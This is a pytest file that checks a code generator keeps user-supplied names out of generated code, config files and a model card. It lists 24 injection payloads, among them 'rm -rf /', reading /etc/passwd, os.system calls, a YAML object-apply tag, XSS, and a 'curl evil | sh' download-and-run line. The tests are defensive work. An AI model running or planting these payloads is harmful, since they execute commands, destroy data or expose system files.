"""Names that users send end as data: the sources are the same for any name."""

import json
import re
import tomllib
from pathlib import PurePosixPath

import pytest

from codegen.escaping import markdown, one_line, slug
from codegen.frameworks.pytorch import print_model
from codegen.repository_request import MAX_NAME
from codegen.sources.model_card import card
from codegen.sources.repository import sources
from tests.codegen.networks import request, small

PAYLOADS = (
    '"); import os; os.system("id") #',
    "'''\nimport os\n'''",
    '"""\nraise SystemExit\n"""',
    "{{ 7 * 7 }}{% include 'x' %}",
    "{name.__class__.__mro__}",
    "%(name)s %s %n",
    "$(touch pwned)`touch pwned`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "--upload-pack=touch pwned",
    "-rf",
    "../../etc/passwd",
    "C:\\Windows\\con",
    "key: !!python/object/apply:os.system [id]",
    "a: b\n- c\n---\nlicense: evil",
    '=HYPERLINK("http://x")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1)) ![y](http://evil/z.png)",
    "line\r\nRUN curl evil | sh\r\n",
    "class",
    "ﬁle ｃｌａｓｓ __import__",
    "‮gnp.exe\u2066\ufeff",
    "🦊💣",
    "x" * MAX_NAME,
)
CODE = (".py", ".toml", ".yml", "Dockerfile", "Makefile", ".txt", ".gitignore", ".dockerignore")


def is_code(path: str) -> bool:
    return path.endswith(CODE) or PurePosixPath(path).name in CODE


def test_there_are_24_payloads() -> None:
    assert len(set(PAYLOADS)) == 24


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_name_changes_no_line_of_code(payload: str) -> None:
    graph = small()
    data = {"name": payload, "labels": [payload, payload + "2", "c"], "sizes": {payload: 1}}
    hostile = sources(request(name=payload, author=payload, data=data, provenance={payload: payload}), graph)
    harmless = sources(request(), graph)
    assert hostile.files.keys() == harmless.files.keys()
    for path in (path for path in hostile.files if is_code(path)):
        # The project's own name is the one thing in code that follows the user's, as a slug.
        ours = hostile.text(path).replace(f'\nname = "{slug(payload)}"', '\nname = "a-small-network"')
        assert ours == harmless.text(path), path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_name_comes_out_of_the_data_files_as_it_went_in(payload: str) -> None:
    files = sources(request(name=payload, data={"labels": [payload, "b", "c"]}), small())
    configuration = json.loads(files.text("config.json"))
    assert configuration["name"] == payload
    assert configuration["labels"][0] == payload
    assert tomllib.loads(files.text("pyproject.toml"))["project"]["name"] == slug(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_model_card_shows_a_name_and_nothing_more(payload: str) -> None:
    data = {"name": payload, "labels": [payload, "b", "c"]}
    text = card(request(name=payload, data=data, provenance={"run": payload}), small(), ())
    head, rest = text.split("---\n", 2)[1:]
    assert "license: mit" in head
    assert head.count("\n") == 4
    assert not re.search(r"(?<!\\)<script", rest)
    assert "](javascript" not in rest
    assert "](http://evil" not in rest
    assert not any(line.startswith(("RUN ", "license:")) for line in rest.splitlines())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_slug_is_a_safe_file_name(payload: str) -> None:
    assert slug(payload).strip("abcdefghijklmnopqrstuvwxyz0123456789-") == ""
    assert 0 < len(slug(payload)) <= 50
    assert not slug(payload).startswith("-")
    assert slug("con") == "network-con"


def test_text_becomes_one_line_without_direction_marks() -> None:
    assert one_line("a\r\nb\u202ec\x00\u2028d") == "a  bc d"
    assert markdown("<b>*x*_y_`z`|") == r"\<b\>\*x\*\_y\_\`z\`\|"


def test_printed_source_holds_no_text_of_a_user() -> None:
    """Names in a graph are checked where it is read; the printer writes numbers and those names only."""
    source = print_model(small()).source
    assert '"""An image classifier found by architecture search."""' in source
